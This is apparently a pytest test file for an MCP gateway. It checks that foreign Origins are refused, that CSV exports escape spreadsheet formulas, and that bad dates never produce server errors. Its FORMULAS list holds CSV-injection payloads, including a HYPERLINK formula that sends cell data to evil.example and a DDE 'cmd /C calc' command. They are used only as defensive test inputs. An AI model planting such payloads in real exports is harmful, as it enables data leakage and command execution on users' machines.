"""HTTP hygiene over a real gateway: foreign Origins refused, CSV exports formula-safe, dates never a 5xx.

The CLI half (report costs / sql) runs in this process against the same database.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable
from datetime import UTC, datetime

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.api.conftest import ApiEnv
from tests.api.seed import SESSIONS, A
from tests.api.test_costs import CliResult, cli  # noqa: F401  (the in-process CLI fixture)

FOREIGN = ("https://evil.example", "null", "http://127.0.0.1.evil.example", "https://127.0.0.1")
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1")


def _own_origins(api_env: ApiEnv) -> list[str]:
    port = api_env.gateway.port
    return [f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://[::1]:{port}"]


def test_foreign_origin_is_refused_on_mcp_sse_and_messages(api_env: ApiEnv) -> None:
    token = api_env.token("member")
    auth = {"Authorization": f"Bearer {token}"}
    initialize = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                  "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                             "clientInfo": {"name": "origin-test", "version": "1"}}}
    mcp_headers = auth | {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
    for origin in FOREIGN:
        r = api_env.http.post("/mcp", json=initialize, headers=mcp_headers | {"Origin": origin})
        assert r.status_code == 403, (origin, r.text)
        body = r.json()
        assert body["id"] is None and body["error"]["code"] == -32600 and "Origin" in body["error"]["message"]
        assert "access-control-allow-origin" not in r.headers
        assert api_env.http.get("/sse", headers=auth | {"Origin": origin}).status_code == 403
        assert api_env.http.post(f"/messages/?session_id={uuid.uuid4().hex}", json={},
                                 headers=auth | {"Origin": origin}).status_code == 403
    # Without Origin (every non-browser client) and from the gateway's own origin: served.
    assert api_env.http.post("/mcp", json=initialize, headers=mcp_headers).status_code == 200
    for origin in _own_origins(api_env):
        r = api_env.http.post("/mcp", json=initialize, headers=mcp_headers | {"Origin": origin.upper()})
        assert r.status_code == 200, (origin, r.text)
    # The Origin check runs before authentication: a foreign page learns nothing, not even "401".
    assert api_env.http.post("/mcp", json=initialize, headers={"Origin": FOREIGN[0]}).status_code == 403


def test_browsers_on_other_sites_cannot_use_the_api(api_env: ApiEnv) -> None:
    auth = {"Authorization": f"Bearer {api_env.token('admin')}"}
    query = {"sql": "SELECT count(*) FROM gateway.mcp_requests"}
    for origin in FOREIGN:
        r = api_env.http.post("/api/sql", json=query, headers=auth | {"Origin": origin})
        assert r.status_code == 403 and r.json()["error"] == "forbidden_origin", r.text
        assert "access-control-allow-origin" not in r.headers
        r = api_env.http.get("/api/reports/costs", headers=auth | {"Origin": origin})
        assert r.status_code == 403 and "access-control-allow-origin" not in r.headers
        preflight = api_env.http.options("/api/sql", headers={
            "Origin": origin, "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "authorization, content-type"})
        assert not any(k.lower().startswith("access-control-") for k in preflight.headers), preflight.headers
    for origin in _own_origins(api_env):  # the dashboard, served from the gateway itself
        r = api_env.http.post("/api/sql", json=query, headers=auth | {"Origin": origin})
        assert r.status_code == 200, r.text
    assert api_env.http.post("/api/sql", json=query, headers=auth).status_code == 200


# -- CSV ------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def formula_rows(api_env: ApiEnv) -> list[str]:
    """Requests whose tool and client names are spreadsheet formulas (as a caller could name them)."""
    session = next(s for s in SESSIONS if s.name == "a-alice-active")
    with api_env.admin() as conn:
        for i, name in enumerate(FORMULAS):
            conn.execute(
                "INSERT INTO gateway.mcp_requests (id, session_id, tenant_id, user_id, tool_name, status,"
                " estimated_cost, client_type, \"timestamp\") VALUES (%s, %s, %s, %s, %s, 'success', 0.25, %s, %s)",
                (uuid.uuid4(), session.id, A, "alice", name, FORMULAS[-1 - i], datetime.now(UTC)))
    return list(FORMULAS)


def _check_csv(text: str, key: str, formulas: list[str]) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cells = [row[key] for row in rows]
    for formula in formulas:
        assert "'" + formula in cells, (formula, cells)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or float(cell) < 0, row
        assert float(row["calls"]) >= 0 and float(row["cost"]) >= 0  # numbers are not quoted
    return rows


def test_api_csv_escapes_formulas(api_env: ApiEnv, formula_rows: list[str]) -> None:
    for group_by, key in (("tool", "tool_name"), ("client", "client_type")):
        r = api_env.get("admin", "/api/reports/costs", since="today", group_by=group_by, format="csv")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = _check_csv(r.text, key, formula_rows)
        as_json = api_env.get("admin", "/api/reports/costs", since="today", group_by=group_by).json()
        assert {row[key] for row in as_json["rows"]} >= set(formula_rows)  # JSON carries the value as it is
        assert len(rows) == len(as_json["rows"])


def test_cli_csv_escapes_formulas(cli: Callable[..., CliResult], formula_rows: list[str]) -> None:  # noqa: F811
    out = cli("report", "costs", "--tenant", A, "--since", "today", "--by", "tool", "--format", "csv")
    assert out.returncode == 0, out.stderr
    _check_csv(out.stdout, "tool_name", formula_rows)
    sql = cli("sql", "--tenant", A, "--format", "csv",
              "SELECT -1 AS n, -2.5::numeric AS d, '-1' AS t, '=1+1' AS \"=h\", "
              "'@x' AS at, 'plain' AS p, NULL AS z, '-2+3' AS f")
    assert sql.returncode == 0, sql.stderr
    header, row = list(csv.reader(io.StringIO(sql.stdout, newline="")))
    assert header == ["n", "d", "t", "'=h", "at", "p", "z", "f"]
    # Numbers (and text that is exactly a number) as numbers; formula-like text escaped.
    assert row == ["-1", "-2.5", "-1", "'=1+1", "'@x", "plain", "", "'-2+3"]


# -- dates ----------------------------------------------------------------------------------------

BAD_DATES = ["0000-01-01", "0001-01-01", "10000-01-01", "99999-01-01", "0001-01-01T00:00+01:00",
             "9999-12-31T23:00-05:00", "9999-12-31", "999999w", "2026-02-30", "2026-11-01T10:00+25:00"]

date_text = (st.text(st.characters(blacklist_categories=("Cs",)), max_size=70)
             | st.from_regex(r"\A-?\d{1,7}-\d{1,3}-\d{1,3}([T ]\d{1,2}:\d{2}(:\d{2})?([+-]\d{2}:\d{2}|Z)?)?\Z")
             | st.from_regex(r"\A\d{1,9}[dhwDHW]\Z") | st.sampled_from([*BAD_DATES, "today", "yesterday"]))


@pytest.mark.parametrize("param", ["since", "until"])
@pytest.mark.parametrize("value", BAD_DATES)
def test_out_of_range_dates_are_422_naming_the_parameter(api_env: ApiEnv, param: str, value: str) -> None:
    r = api_env.get("admin", "/api/reports/costs", **{param: value})
    assert r.status_code == 422, r.text
    assert r.json()["parameter"] == param and r.json()["error"] == "invalid_parameter"


def test_since_after_until_is_422(api_env: ApiEnv) -> None:
    r = api_env.get("admin", "/api/reports/costs", since="2026-11-10", until="2026-11-01")
    assert r.status_code == 422 and r.json()["parameter"] == "since"


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(since=st.none() | date_text, until=st.none() | date_text, fmt=st.sampled_from(["json", "csv"]))
def test_api_dates_never_5xx(api_env: ApiEnv, since: str | None, until: str | None, fmt: str) -> None:
    params = {k: v for k, v in (("since", since), ("until", until)) if v is not None}
    r = api_env.http.get("/api/reports/costs", params=params | {"format": fmt},
                         headers={"Authorization": f"Bearer {api_env.token('admin')}"})
    assert r.status_code in (200, 422), (params, r.status_code, r.text[:300])
    if r.status_code == 422:
        assert r.json()["parameter"] in ("since", "until"), r.text


@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
@given(since=st.none() | date_text.filter(lambda s: "\x00" not in s),
       until=st.none() | date_text.filter(lambda s: "\x00" not in s))
def test_cli_dates_exit_0_or_2_with_one_line(cli: Callable[..., CliResult],  # noqa: F811
                                            since: str | None, until: str | None) -> None:
    args = ["report", "costs", "--tenant", A, "--format", "json"]
    if since is not None:
        args += [f"--since={since}"]
    if until is not None:
        args += [f"--until={until}"]
    result = cli(*args)  # an uncaught exception (a traceback) fails the test here
    assert result.returncode in (0, 2), result
    if result.returncode == 2:
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("mcp-gateway: error: --"), result.stderr
        assert result.stdout == ""


def test_cli_out_of_range_dates(cli: Callable[..., CliResult]) -> None:  # noqa: F811
    for value in BAD_DATES:
        for option in ("--since", "--until"):
            result = cli("report", "costs", f"{option}={value}")
            assert result.returncode == 2 and result.stdout == "", (value, result)
            lines = result.stderr.strip().splitlines()
            assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
            assert lines[0].startswith(f"mcp-gateway: error: {option}") or "after until" in lines[0], lines


def test_http_client_fixture_is_real(api_env: ApiEnv) -> None:
    assert isinstance(api_env.http, httpx.Client) and api_env.gateway.proc.poll() is None
